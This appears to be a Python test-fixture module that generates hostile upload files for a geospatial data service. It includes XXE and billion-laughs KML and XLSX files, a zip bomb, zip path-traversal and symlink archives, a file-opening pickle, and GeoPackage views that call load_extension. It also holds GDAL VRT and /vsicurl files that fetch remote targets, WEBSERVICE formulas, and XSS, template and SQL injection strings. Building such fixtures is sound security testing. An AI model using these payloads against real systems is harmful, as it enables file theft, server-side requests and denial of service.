"""Files that would read other files, ask the network, run code or never end, built from nothing."""

from __future__ import annotations

import io
import json
import pickle
import sqlite3
import stat
import warnings
import zipfile
from contextlib import closing
from pathlib import Path
from tempfile import TemporaryDirectory

import geopandas as gpd
import openpyxl
from shapely.geometry import Point, mapping

ACCEPTED_SUFFIXES = (".csv", ".xlsx", ".geojson", ".ndjson", ".shp", ".zip", ".gpkg", ".kml", ".kmz")
TEXTS = (
    "{{7*7}}",
    "{% if 1 %}x{% endif %}",
    "<script>fetch('/x')</script>",
    '"><img src=x onerror=alert(1)>',
    "=HYPERLINK(1)",
    "@SUM(A1)",
    "${7*7}",
    "'; DROP TABLE x; --",
)


_SHP = b"\x00\x00\x27\x0a"


def vrt(target: str) -> bytes:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{target}</SrcDataSource>'
        "<SrcLayer>canary</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def gdalg(target: str) -> bytes:
    command = f"gdal vector pipeline ! read {target} ! write --of stream streamed_dataset"
    return json.dumps({"type": "gdal_streamed_alg", "command_line": command}).encode()


def wfs(address: str) -> bytes:
    return f"<OGRWFSDataSource><URL>{address}</URL></OGRWFSDataSource>".encode()


def geojson(crs: dict | None = None) -> bytes:
    features = [
        {"type": "Feature", "properties": {"名称": words}, "geometry": mapping(Point(113.33, 23.09))}
        for words in TEXTS
    ]
    found = {"type": "FeatureCollection", "features": features}
    return json.dumps(found if crs is None else {**found, "crs": crs}).encode()


def kml(*, head: str = "", extra: str = "", name: str = "甲") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"{extra}<Placemark><name>{name}</name><Point><coordinates>113.33,23.09</coordinates></Point>"
        "</Placemark></Document></kml>"
    ).encode()


def entity(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY canary SYSTEM "{target}">]>'


def laughs() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{lines}]>'


def archive(members: dict[str, bytes], *, packed: bool = True) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return sink.getvalue()


def archive_with_link(target: str) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as made:
        for suffix in (".shp", ".dbf", ".shx"):
            info = zipfile.ZipInfo("zones" + suffix)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            made.writestr(info, target)
    return sink.getvalue()


def workbook(rows: list[list[object]] | None = None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows or [["名称", "经度", "纬度"], ["甲", 113.33, 23.09]]:
        book.active.append(row)
    sink = io.BytesIO()
    book.save(sink)
    return sink.getvalue()


def workbook_with(part: str, data: bytes, *, packed: bool = True) -> bytes:
    """Return a workbook in which one part is replaced or added."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as sound:
        members = {name: sound.read(name) for name in sound.namelist()}
    return archive({**members, part: data}, packed=packed)


def workbook_with_entity(target: str) -> bytes:
    strings = (
        f'<?xml version="1.0"?>{entity(target)}'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&canary;</t></si></sst>'
    )
    return workbook_with("xl/sharedStrings.xml", strings.encode())


def workbook_with_external_link(address: str) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    link = (
        f'<Relationships xmlns="{space}"><Relationship Id="rId1" Type="{kind}" Target="{address}" '
        'TargetMode="External"/></Relationships>'
    )
    return workbook_with("xl/externalLinks/_rels/externalLink1.xml.rels", link.encode())


def workbook_with_giant_token(n_bytes: int = 32_000_000, *, packed: bool = True) -> bytes:
    """Return a workbook with one tag of ``n_bytes``; of a few kilobytes where it is packed."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{space}" x="'.encode() + b"a" * n_bytes + b'"><sheetData/></worksheet>'
    return workbook_with("xl/worksheets/sheet1.xml", sheet, packed=packed)


def zip_bomb(n_bytes: int = 300_000_000) -> bytes:
    """Return a shapefile's archive that unpacks to ``n_bytes`` of zeros."""
    return archive({"zones.shp": bytes(n_bytes), "zones.dbf": b"", "zones.shx": b""})


def shapefile(**extra: str) -> bytes:
    """Return a sound shapefile in an archive, with sidecars of the given content."""
    with TemporaryDirectory() as folder, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        _points().to_file(Path(folder) / "zones.shp", encoding="UTF-8")
        members = {path.name: path.read_bytes() for path in sorted(Path(folder).iterdir())}
    return archive({**members, **{f"zones.{suffix}": words.encode() for suffix, words in extra.items()}})


def geopackage(*statements: str) -> bytes:
    """Return a sound GeoPackage on which SQL was run afterwards."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "layer.gpkg"
        _points().to_file(path, layer="zones", driver="GPKG")
        with closing(sqlite3.connect(path)) as database:
            database.execute("PRAGMA trusted_schema = OFF")
            for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
                database.create_function(name, 1, lambda _: 0)
            for statement in statements:
                database.execute(statement)
            database.commit()
        return path.read_bytes()


def listed(table: str) -> tuple[str, str]:
    """Return the SQL by which a GeoPackage says that ``table`` is a layer."""
    content = "INSERT INTO gpkg_contents(table_name, data_type, identifier, srs_id) VALUES "
    column = "INSERT INTO gpkg_geometry_columns VALUES "
    return (
        f"{content}('{table}', 'features', '{table}', 4326)",
        f"{column}('{table}', 'geom', 'POINT', 4326, 0, 0)",
    )


def endless_geopackage() -> bytes:
    return geopackage(
        "CREATE VIEW endless AS WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n) "
        "SELECT n.fid AS fid, zones.geom AS geom FROM n, zones",
        *listed("endless"),
    )


def spying_geopackage(target: str) -> bytes:
    load, call = f"load_extension('{target}')", f"ogr_geocode('{target}')"
    return geopackage(
        f"CREATE VIEW spy AS SELECT fid, geom, {load} AS a FROM zones",  # noqa: S608
        *listed("spy"),
        f"CREATE VIEW caller AS SELECT fid, geom, {call} AS a FROM zones",  # noqa: S608
        *listed("caller"),
        f"CREATE TRIGGER t AFTER DELETE ON zones BEGIN SELECT {load}; END",
    )


def pickled(target: str) -> bytes:
    class Reader:
        def __reduce__(self):
            return (open, (target,))

    return pickle.dumps(Reader())


def table_of_texts() -> bytes:
    quoted = ['"' + words.replace('"', '""') + '"' for words in TEXTS]
    return ("名称,经度,纬度\n" + "".join(f"{words},113.33,23.09\n" for words in quoted)).encode()


def _points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"name": ["甲", "乙"]}, geometry=[Point(113.33, 23.09), Point(113.3, 23.1)], crs=4326
    )


def hostile_files(canary: Path, address: str) -> dict[str, bytes]:
    """Return every hostile file by the name under which it is brought."""
    local, remote = str(canary), f"{address}/hostile.geojson"
    uri = canary.as_uri()
    everywhere = {
        "vrt": vrt(local),
        "vrt_remote": vrt(f"/vsicurl/{remote}"),
        "gdalg": gdalg(local),
        "gdalg_remote": gdalg(f"/vsicurl/{remote}"),
        "wfs": wfs(remote),
        "pickle": pickled(local),
    }
    found = {f"{kind}{suffix}": data for kind, data in everywhere.items() for suffix in ACCEPTED_SUFFIXES}
    found.update(
        {
            f"{kind}_inside_{suffix[1:]}.zip": archive({f"zones{suffix}": data})
            for kind, data in everywhere.items()
            for suffix in (".shp", ".kml", ".csv", ".vrt")
        }
    )
    for kind in ("link", "url"):
        crs = {"type": kind, "properties": {"href": remote, "url": remote, "type": "proj4"}}
        found[f"crs_{kind}.geojson"] = geojson(crs)
    found["crs_name.geojson"] = geojson({"type": "name", "properties": {"name": remote}})
    network_link = f"<NetworkLink><Link><href>{remote}</href></Link></NetworkLink>"
    found.update(
        {
            "network_link.kml": kml(extra=network_link),
            "style.kml": kml(extra=f"<styleUrl>{remote}#a</styleUrl>"),
            "entity.kml": kml(head=entity(uri), name="&canary;"),
            "entity_remote.kml": kml(head=entity(remote), name="&canary;"),
            "laughs.kml": kml(head=laughs(), name="&l9;"),
            "dtd.kml": kml(head=f'<!DOCTYPE x SYSTEM "{remote}">'),
            "network_link.kmz": archive({"doc.kml": kml(extra=network_link)}),
            "entity.kmz": archive({"doc.kml": kml(head=entity(uri), name="&canary;")}),
            "entity.xlsx": workbook_with_entity(uri),
            "entity_remote.xlsx": workbook_with_entity(remote),
            "external.xlsx": workbook_with_external_link(remote),
            "webservice.xlsx": workbook(
                [["名称", "经度", "纬度"], [f'=WEBSERVICE("{remote}")', 113.33, 23.09]]
            ),
            "traversal.zip": archive(
                {"../../zones.shp": b"\x00\x00\x27\x0a", "../../canary.csv": b"changed"}
            ),
            "absolute.zip": archive({local: b"changed", "/zones.shp": b"\x00\x00\x27\x0a"}),
            "symlink.zip": archive_with_link(local),
            "spy.gpkg": spying_geopackage(local),
            "prj_path.zip": shapefile(prj=local, cpg=local),
            "prj_address.zip": shapefile(prj=remote, cpg=f"<html>{remote}</html>"),
            "prj_init.zip": shapefile(prj=f"+init={local}:1", cpg="../../../etc/passwd"),
        }
    )
    return found
